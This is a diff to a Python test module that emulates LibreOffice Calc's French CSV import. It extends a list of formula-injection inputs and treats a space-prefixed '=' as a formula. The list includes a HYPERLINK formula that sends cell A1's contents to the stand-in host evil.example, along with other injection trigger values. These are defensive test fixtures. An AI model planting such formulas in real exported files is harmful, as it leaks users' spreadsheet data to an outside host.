@@ -25,14 +25,15 @@ DAYS = {"start": "2026-04-01", "end": "2026-04-30"}
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
 # What a member may type where a spreadsheet looks for a formula (OWASP's list), and an error value's look.
-HOSTILE = [HYPERLINK, "+SUM(1;2)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "#N/A"]
+HOSTILE = [HYPERLINK, "+SUM(1;2)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "#N/A", " =1+1"]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
 # --- LibreOffice Calc's French CSV import, as checked against LibreOffice 7.4 (language fr-FR, « ; », UTF-8, detect
-# special numbers on, evaluate formulas on): a leading `=` is a formula; a decimal number (sign, digits grouped by
-# three with spaces, decimal comma; surrounding spaces ignored) is a number, so `0612345678` becomes 612345678 and
-# `01000` 1000; DD/MM/YYYY is a date and HH:MM a time; anything else, `06 12 34 56 78` or `'=…` included, is text.
+# special numbers on, evaluate formulas on): a leading `=`, after any spaces, is a formula; a decimal number (sign,
+# digits grouped by three with spaces, decimal comma; surrounding spaces ignored) is a number, so `0612345678` becomes
+# 612345678 and `01000` 1000; DD/MM/YYYY is a date and HH:MM a time; anything else, `06 12 34 56 78` or `'=…`
+# included, is text.
 FR_NUMBER = re.compile(r"^[+-]?(\d{1,3}( \d{3})+|\d+)(,\d+)?$")
 FR_DATE = re.compile(r"^(\d{2})/(\d{2})/(\d{4})$")
 FR_TIME = re.compile(r"^(\d{2}):(\d{2})$")
@@ -40,9 +41,9 @@ FR_TIME = re.compile(r"^(\d{2}):(\d{2})$")
 
 def libreoffice_fr(text: str):
     """The value LibreOffice makes of one CSV cell: ("formula" | "number" | "date" | "time" | "text", value)."""
-    if text.startswith("="):
-        return "formula", text
     bare = text.strip(" ")
+    if bare.startswith("="):
+        return "formula", text
     if FR_NUMBER.match(bare):
         return "number", Decimal(bare.replace(" ", "").replace(",", "."))
     if m := FR_DATE.match(text):
